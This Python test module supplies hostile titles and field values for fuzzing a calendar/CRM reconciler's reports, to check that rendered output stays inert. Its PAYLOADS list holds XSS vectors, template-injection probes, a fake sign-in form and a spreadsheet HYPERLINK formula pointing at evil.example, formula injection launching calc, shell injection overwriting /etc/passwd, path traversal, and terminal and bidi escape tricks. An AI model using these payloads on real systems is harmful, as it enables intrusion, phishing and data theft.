"""What spiteful people write into titles, and reports that have it everywhere."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import fields as fields_of
from dataclasses import is_dataclass, replace
from datetime import timedelta
from enum import Enum
from typing import Any, Final

from hypothesis import strategies as st

from reconciler.inert import Sink, inert
from reconciler.model import Acceptance, Action, Change, Finding, Kind, Outcome, Remedy, Severity, Side, Tier
from reconciler.report.look import Look
from reconciler.report.recorded import Day, Fix, PastRun, Place, Recorded, Taken, Told, Tracked, Watched
from reconciler.report.report import Figure, Report, Row, Section, Trend
from tests.periods import DIGEST, EARLIER, LATELY, LOOK, MADE_AT, NINE, SINCE, TEN, UNTIL, refused_run

PWNED: Final = "window.pwned=1"
"""What every script here would leave behind."""

PAYLOADS: Final = (
    f"<script>{PWNED}</script>",
    f"</script><script>{PWNED}</script>",
    f"</style><svg onload={PWNED}>",
    f"--><img src=x onerror={PWNED}>",
    f'"><img src=x onerror="{PWNED}">',
    f"' autofocus onfocus='{PWNED}' x='",
    f"`onmouseover={PWNED}",
    f"</title></head><body onload={PWNED}>",
    f"</textarea></select></svg></noscript><iframe srcdoc='<script>parent.{PWNED}</script>'>",
    f"<a href='javascript:{PWNED}'>open</a>",
    f"javascript:{PWNED}",
    "<img src=//evil.example/pixel.png><link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=//evil.example/>",
    "<form action=https://evil.example/><input name=password><button>Sign in again</button></form>",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;",
    "]]><!--<!DOCTYPE x><?php ?>",
    "{{ 7 * 7 }}{% for a in range(9) %}{{ config }}{% endfor %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} %(x)s {0} %s",
    "url(https://evil.example/); } body { display: none } @import '//evil.example/a.css';",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "+1 312 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",  # noqa: RUF001
    "Oak St;=1+1,=2+2\t=3+3|=4+4",
    "_x003D_1+1 _x000D_",
    "All well\r\nBcc: everyone@acme.example\r\n\r\nbody",
    "=?utf-8?q?All_well=0D=0ABcc:_everyone=40acme.example?=",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x07here\x9b1m\x90q\x9c",
    "a\x00b\x08c\x7fd\x85e\u2028f\u2029g",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "zero\u200bwidth\u200d\ufeff \U000e0041\U000e007f",
    "half \ud800 and \udfff, none \ufffe \uffff \ufdd0",
    "<!channel> <@U123> <https://evil.example|acme.example> @here @everyone :bomb: *b* _i_ `c`",
    "[pay here](https://evil.example) ![x](//evil.example/x.png) www.evil.example ann@evil.example",
    "mailto:ann@evil.example?subject=x&body=y tel:+13125550100",
    "$(reboot) `reboot` ; reboot | reboot && reboot > /etc/passwd",
    "../../etc/passwd\\..\\..\\x",
    "x" * 10_000,
    "<b>" * 3_000,
    "Z\u0335\u0321\u0322" * 2_000,
)

TEXTS: Final = st.sampled_from(PAYLOADS) | st.text(st.characters(exclude_categories=()), max_size=80)

Say = Callable[[str], str]
"""What stands where plain words would: of each plain text it makes the same other one, and of no two one."""


def plainly(words: str) -> str:
    """Say it as people would."""
    return words


def spitefully(text: str) -> Say:
    """Say `text` wherever people would say something, with what they would have said after it."""
    return lambda words: f"{text} {words}"


def in_turn(first: int) -> Say:
    """Say one spiteful text here and the next one there, from the one with this number on."""
    known: dict[str, str] = {}

    def say(words: str) -> str:
        return known.setdefault(words, f"{PAYLOADS[(first + len(known)) % len(PAYLOADS)]} {words}")

    return say


# ---- what the state holds -------------------------------------------------------------------------------------------


def period(say: Say, kinds: Iterable[Kind] = Kind) -> Recorded:
    """Return a period into which everybody wrote who can: agents, clients, CRMs, providers, people who decide."""
    ann, bob = say("ann@acme.example"), say("bob@acme.example")
    here, there = _place(say, ann), replace(_place(say, bob), kind="microsoft")
    blind = Watched(
        place=replace(there, name=say("showings")), blind_since=LATELY, strikes=3, why=say("access was withdrawn")
    )
    refused = PastRun(
        **{name: getattr(refused_run(), name) for name in ("id", "command", "started_at", "finished_at", "status")},
        exit_code=4,
        digest=DIGEST,
        why=say("41 cancels are too many"),
        counts={"events": 122, "records": 120},
        result=_result(say, ann),
    )
    findings = tuple(_findings(say, kinds, (here, there)))
    return Recorded(
        job="acme",
        since=SINCE,
        until=UNTIL,
        made_at=MADE_AT,
        runs=(refused,),
        last=refused,
        calendars=(Watched(place=here, seen_at=UNTIL), Watched(place=there, seen_at=UNTIL), blind),
        findings=findings,
        fixes=tuple(_fix(say, one) for one in findings[:3]),
        days=(Day(day=UNTIL.date(), runs=2, found=3, open=2, kinds={Kind.FIELD_DRIFT: 3}),),
        told=(
            Told(kind="report", status="unconfirmed", since=EARLIER, until=SINCE, why=say("silence after the mail")),
        ),
        office_of={ann: say("north"), bob: say("south")},
        part=say("office north"),
    )


def look(say: Say) -> Look:
    """Return how a job wants it seen that gives itself away to nobody, but for what people put into its file."""
    ann = say("ann@acme.example")
    zones = {ann: "America/New_York"}
    return replace(LOOK, zones=zones, title=say("Acme Realty"), limits={"cancel": "10 or 5%"})


def _place(say: Say, agent: str) -> Place:
    return Place(source=say("office"), kind="google", agent=agent, name="primary")


def _result(say: Say, agent: str) -> Mapping[str, Any]:
    violation = {"limit": "cancel", "found": 41, "allowed": 13, "population": 260, "why": say("of 260 linked records")}
    withheld = {"limit": "emptied", "found": 38, "allowed": 0, "population": 38, "why": say("0 read"), "agent": agent}
    return {
        "violations": [{**violation, "action": "cancel"}, withheld],
        "consent": {"digest": DIGEST, "covers": 41},
        "approvals": [{"digest": DIGEST, "by": say("pat"), "covered": 3, "dropped": [say("a key")]}],
        "notes": [say("the CRM's clock is off")],
    }


def _findings(say: Say, kinds: Iterable[Kind], places: tuple[Place, Place]) -> Iterator[Tracked]:
    """Yield each kind of finding in each state that it may be in."""
    known = Acceptance(by=say("kim"), why=say("known since May"), at=EARLIER, until=UNTIL + timedelta(days=9))
    states: tuple[dict[str, Any], ...] = (
        {},
        {"remedy": Remedy.HUMAN},
        {"outcomes": (Outcome.FAILED, Outcome.DEFERRED)},
        {"resolved_at": UNTIL},
        {"accepted": known},
    )
    for number, kind in enumerate(kinds):
        for state, given in enumerate(states):
            yield _tracked(say, f"{number:06x}{state:06x}", kind, places[state % 2], dict(given))


def _tracked(say: Say, key: str, kind: Kind, place: Place, given: dict[str, Any]) -> Tracked:
    fields: dict[str, Change] = {
        "title": (say("Showing"), say("Showing 12 Oak St")),
        "location": (say("12 Oak"), say("12 Oak St")),
        "start": (NINE, TEN),
        "contact": ((say("jo@home.example"),), (say("jo@home.example"), say("di@home.example"))),
    }
    finding = Finding(
        key=key,
        kind=kind,
        severity=Severity.CRITICAL if key.endswith("1") else Severity.HIGH,
        remedy=given.pop("remedy", Remedy.FIX),
        why=say(f"{key}: they differ"),
        agent=place.agent,
        event=say(f"evt-{key}"),
        crm_id=say(f"17-{key}"),
        fields=fields,
        start=TEN if key.endswith(("0", "2")) else say("soon"),
        tier=Tier.KEY,
        has={
            Side.CALENDAR: {name: after for name, (_, after) in fields.items()},
            Side.CRM: {name: before for name, (before, _) in fields.items()},
        },
        changed=LATELY,
        clues=(f"origin:{say('zapier')}", f"scheduler:{say('calendly')}", "shift:-21600"),
    )
    outcomes = given.pop("outcomes", ())
    writes = tuple(
        Taken(action=Action.UPDATE, side=Side.CRM, outcome=each, why=say("it said no"), fields=fields)
        for each in outcomes
    )
    return Tracked(finding=finding, first_seen=LATELY, last_seen=UNTIL, sightings=3, taken=writes, place=place, **given)


def _fix(say: Say, tracked: Tracked) -> Fix:
    found = tracked.finding
    return Fix(
        run="01J",
        at=UNTIL,
        action=Action.UPDATE,
        side=Side.CRM,
        key=say("uid1"),
        agent=found.agent,
        event=found.event,
        crm_id=found.crm_id,
        before=found.has[Side.CRM],
        after=found.has[Side.CALENDAR],
        finding=found.key,
        kind=found.kind,
        approval=DIGEST,
    )


# ---- what is laid out -----------------------------------------------------------------------------------------------

_OURS: Final[Mapping[type, frozenset[str]]] = {
    Report: frozenset({"digest", "brand", "zone"}),
    Row: frozenset({"calendar_link", "crm_link"}),
    Figure: frozenset({"name"}),
    Section: frozenset({"name"}),
    Trend: frozenset({"name", "unit"}),
}
"""What no text from outside is in: a digest, names of parts, links, what the job file's check let pass."""


def line(text: str) -> str:
    """Return `text` as whoever builds a report hands it on: one inert line."""
    return inert(text, Sink.TERMINAL)


def spiked(report: Report, say: Say) -> Report:
    """Return the report with what is said of its texts wherever a text stands in it, whoever wrote it."""
    made: Report = _spiked(report, say)
    return replace(made, rows=lambda: (_spiked(row, say) for row in report.rows()))


def _spiked(value: Any, say: Say) -> Any:
    match value:
        case Enum() | None:
            return value
        case str():
            return line(say(value)) if value else value
        case tuple():
            return tuple(_spiked(each, say) for each in value)
        case _ if is_dataclass(value) and not isinstance(value, type):
            ours = _OURS.get(type(value), frozenset())
            kept = [each.name for each in fields_of(value) if each.name not in ours]  # what is said has an order
            return replace(value, **{name: _spiked(getattr(value, name), say) for name in kept})
        case _:
            return value
